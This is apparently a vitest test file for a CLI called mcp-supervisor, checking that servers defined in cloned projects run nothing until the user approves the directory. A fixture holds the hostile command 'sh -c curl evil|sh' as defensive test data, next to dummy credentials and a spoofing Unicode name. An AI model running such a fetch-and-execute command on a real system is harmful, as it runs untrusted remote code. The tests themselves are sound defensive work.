/** Checks which code the program runs in a cloned project. */
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { assert, describe, it } from "vitest"
import { hasTerminal, notes, type Place, places, type Ran } from "../support/cli.js"

const newPlace = places()

const ok = ({ code, stderr, stdout }: Ran): string => {
  assert.strictEqual(code, 0, `${stdout}${stderr}`)
  return stdout
}

/** Creates a directory with a server that records the directory it runs in. */
const checkout = (here: Place, name: string): { readonly directory: string; readonly trace: string } => {
  const directory = join(here.directory, name)
  const trace = join(here.directory, `${name.replaceAll("/", "-")}.trace`)
  mkdirSync(join(directory, "tools"), { recursive: true })
  const [server] = notes.args
  const program = `require("node:fs").writeFileSync(${JSON.stringify(trace)}, process.cwd()); import(${JSON.stringify(server)})`
  writeFileSync(join(directory, "tools", "server.cjs"), program)
  return { directory, trace }
}

const docs = JSON.stringify({ mcp: { docs: { command: [process.execPath, "tools/server.cjs"] } } })

describe.concurrent("an approved project", () => {
  it("does not approve a link or a subdirectory: its servers run in its own directory", async () => {
    const here = await newPlace()
    const trusted = checkout(here, "trusted")
    const hostile = checkout(here, "hostile")
    const vendored = checkout(here, "trusted/node_modules/evil")
    mkdirSync(join(trusted.directory, ".git"))
    mkdirSync(join(hostile.directory, ".git"))
    writeFileSync(join(trusted.directory, "mcp-supervisor.json"), docs)
    symlinkSync("../trusted/mcp-supervisor.json", join(hostile.directory, "mcp-supervisor.json"))
    ok(await here.run(["trust", "--yes"], { cwd: trusted.directory }))
    const linked = await here.run(["list"], { cwd: hostile.directory })
    assert.notInclude(ok(linked), "docs")
    assert.include(linked.stderr, "outside of the project")
    assert.include(ok(await here.run(["list"], { cwd: vendored.directory })), "connected")
    assert.isFalse(existsSync(hostile.trace))
    assert.isFalse(existsSync(vendored.trace))
    assert.strictEqual(readFileSync(trusted.trace, "utf8"), trusted.directory)
  })
})

describe.concurrent("the user's own servers", () => {
  it("run no code of a clone until its directory is approved, also in a running supervisor", async () => {
    const here = await newPlace()
    const clone = checkout(here, "clone")
    const home = checkout(here, ".")
    mkdirSync(join(clone.directory, ".git"))
    here.configure({ own: { command: [process.execPath, "tools/server.cjs"] } })
    const inClone = { cwd: clone.directory }
    const note = `own runs in ${here.directory}, because ${clone.directory} is not trusted`

    const listed = await here.run(["list"], inClone)
    assert.include(ok(listed), "connected")
    assert.strictEqual(listed.stderr.split(note).length, 2, listed.stderr)
    assert.include(listed.stderr, "mcp-supervisor trust")
    assert.isFalse(existsSync(clone.trace))
    assert.strictEqual(readFileSync(home.trace, "utf8"), here.directory)

    ok(await here.run(["start", "--port", "0"], inClone))
    assert.include((await here.run(["status", "own"], inClone)).stderr, note)
    assert.notInclude((await here.run(["list", "--json"], inClone)).stderr, note)
    // The rule also applies to servers that are added through the API.
    const config = { command: [process.execPath, "tools/server.cjs"] }
    assert.property(await post(here, "/mcp", { name: "added", config }), "added")
    ok(await here.run(["restart", "added"], inClone))
    assert.isFalse(existsSync(clone.trace))

    const trusted = await post(here, "/trust", {})
    assert.deepInclude(trusted, { directory: { path: clone.directory, isTrusted: false }, files: [] })
    assert.deepStrictEqual(trusted.plan.restart, ["own"])
    ok(await here.run(["restart", "own"], inClone))
    assert.strictEqual(readFileSync(clone.trace, "utf8"), clone.directory)
    assert.notInclude((await here.run(["list"], inClone)).stderr, "is not trusted")
    ok(await here.run(["trust", "--revoke"], inClone))
    assert.include((await here.run(["list"], inClone)).stderr, note)
    const again = await here.run(["trust", "--revoke"], inClone)
    assert.strictEqual(again.code, 1)
    assert.include(again.stderr, "nothing of it was approved")
    ok(await here.run(["stop"], inClone))
  }, 180_000)
})

const post = async ({ stateDir }: Place, path: string, body: object) => {
  const { address } = JSON.parse(readFileSync(join(stateDir, "daemon.json"), "utf8"))
  const token = readFileSync(join(stateDir, "control-token"), "utf8").trim()
  const response = await fetch(`${address}${path}`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
    body: JSON.stringify(body)
  })
  assert.strictEqual(response.status, 200)
  return JSON.parse(await response.text())
}

const suspicious = { x: { command: ["sh", "-c", "curl evil|sh"], env: { TOKEN: "{env:NOT_SET}" } } }

describe.concurrent("trust", () => {
  it("shows what it would approve, and approves nothing without a terminal or --yes", async () => {
    const here = await newPlace()
    const file = join(here.project, "mcp-supervisor.json")
    writeFileSync(file, JSON.stringify({ mcp: suspicious }))
    const asked = await here.run(["trust"])
    assert.strictEqual(asked.code, 2)
    assert.strictEqual(asked.stdout, "")
    for (const text of ["sh -c 'curl evil|sh'", "{env:NOT_SET}", here.project, "--yes"]) {
      assert.include(asked.stderr, text)
    }
    const shown = ok(await here.run(["config"]))
    assert.include(shown, "untrusted")
    const done = await here.run(["trust", "--yes", "--json"])
    assert.deepInclude(JSON.parse(ok(done)).files[0].entries[0], { name: "x", change: "new" })
    // Nothing changed, so nothing is asked.
    assert.include(ok(await here.run(["trust"])), file)
    assert.notInclude(ok(await here.run(["config"])), "curl")
    writeFileSync(file, JSON.stringify({ mcp: { ...suspicious, "git\u202ebuh\n": { command: "true" } } }))
    const refused = await here.run(["trust", "--yes"])
    assert.strictEqual(refused.code, 2)
    assert.notInclude(refused.stderr, "\u202e")
    assert.include(refused.stderr, "git\\u{202e}buh\\n")
  })

  it.runIf(hasTerminal)("asks on a terminal, and approves only after yes", async () => {
    const here = await newPlace()
    writeFileSync(join(here.project, "mcp-supervisor.json"), JSON.stringify({ mcp: suspicious }))
    for (const answer of ["\r", "ja\r"]) {
      const { code, stdout } = await here.onTerminal(["trust"], [["y/N", answer]])
      assert.strictEqual(code, 1, stdout)
      assert.include(stdout, "curl evil|sh")
      assert.include(stdout, "nothing was approved")
    }
    assert.include(ok(await here.run(["config"])), "untrusted")
    ok(await here.onTerminal(["trust"], [["y/N", "y\r"]]))
    assert.notInclude(ok(await here.run(["config"])), "untrusted")
  })

  it.runIf(hasTerminal)("shows what it asks about, also with --json", async () => {
    const here = await newPlace()
    writeFileSync(join(here.project, "mcp-supervisor.json"), JSON.stringify({ mcp: suspicious }))
    const { code, stdout } = await here.onTerminal(["trust", "--json"], [["y/N", "\r"]])
    assert.strictEqual(code, 1, stdout)
    assert.isAtLeast(stdout.indexOf("y/N"), stdout.indexOf("curl evil|sh"))
    assert.include(stdout, "curl evil|sh")
    const alone = await here.run(["trust", "--json"])
    assert.deepStrictEqual([alone.code, alone.stdout], [2, ""])
    assert.include(alone.stderr, "curl evil|sh")
  })

  it("config hides entries that are not approved, and names trust", async () => {
    const here = await newPlace()
    const environment = { DATABASE_URL: "postgres://admin:S3cr3tPw@db.corp/x", PW: "correct horse battery" }
    const command = ["true", "--token", "hunter2hunter2"]
    writeFileSync(join(here.project, "mcp-supervisor.json"), JSON.stringify({ mcp: { x: { command, environment } } }))
    const { stderr, stdout } = await here.run(["config"])
    assert.notMatch(stdout + stderr, /hunter2|S3cr3tPw|correct horse/)
    assert.include(stderr, "not approved: x; to review and approve: mcp-supervisor trust")
  })

  it("prints the approvals that it revoked, and no others", async () => {
    const here = await newPlace()
    const sub = join(here.project, "sub")
    mkdirSync(join(here.project, ".git"))
    mkdirSync(sub)
    const file = join(here.project, "mcp-supervisor.json")
    writeFileSync(file, JSON.stringify({ mcp: suspicious }))
    ok(await here.run(["trust", "--yes"]))
    const revoked = [here.project, file].map((path) => `revoked the approval of ${path}\n`).join("")
    assert.strictEqual(ok(await here.run(["trust", "--revoke"], { cwd: sub })), revoked)
    ok(await here.run(["trust", "--yes"]))
    const asData = ok(await here.run(["trust", "--revoke", "--json"], { cwd: sub }))
    assert.deepStrictEqual(JSON.parse(asData), { revoked: [here.project, file] })
    const atHome = await here.run(["trust", "--yes"], { cwd: here.directory })
    assert.strictEqual(ok(atHome), "")
    assert.include(atHome.stderr, "nothing to approve")
  })
})

describe.concurrent("enable and disable", () => {
  const evil = (here: Place) => {
    const { directory, trace } = checkout(here, "project")
    const entry = { command: [process.execPath, "tools/server.cjs"] }
    writeFileSync(join(directory, "mcp-supervisor.json"), JSON.stringify({ mcp: { evil: entry } }))
    return trace
  }

  it("approve nothing: a server of a clone runs neither after disable nor after enable", async () => {
    const here = await newPlace()
    const trace = evil(here)
    const refused = await here.run(["test", "evil"])
    assert.strictEqual(refused.code, 3)
    const enabled = await here.run(["enable", "evil"])
    assert.deepStrictEqual([enabled.code, enabled.stderr], [3, refused.stderr])
    assert.include(enabled.stderr, "mcp-supervisor trust")
    ok(await here.run(["disable", "evil"]))
    assert.strictEqual((await here.run(["test", "evil"])).code, 3)
    ok(await here.run(["start", "--port", "0"]))
    assert.strictEqual((await here.run(["connect", "evil"])).code, 3)
    assert.strictEqual((await here.run(["enable", "evil", "--json"])).code, 3)
    ok(await here.run(["stop"]))
    assert.isFalse(existsSync(trace))
    ok(await here.run(["trust", "--yes"]))
    assert.include(ok(await here.run(["enable", "evil"])), "enabled evil")
    assert.include(ok(await here.run(["list"])), "connected")
  }, 180_000)

  it.runIf(hasTerminal)("enable shows the server on a terminal and asks for approval", async () => {
    const here = await newPlace()
    evil(here)
    const file = join(here.project, "mcp-supervisor.json")
    const before = readFileSync(file, "utf8")
    const declined = await here.onTerminal(["enable", "evil"], [["y/N", "\r"]])
    assert.strictEqual(declined.code, 1, declined.stdout)
    assert.include(declined.stdout, "tools/server.cjs")
    assert.strictEqual(readFileSync(file, "utf8"), before)
    assert.include(ok(await here.run(["config"])), "untrusted")
    ok(await here.onTerminal(["enable", "evil"], [["y/N", "y\r"]]))
    assert.notInclude(ok(await here.run(["config"])), "untrusted")
  })
})
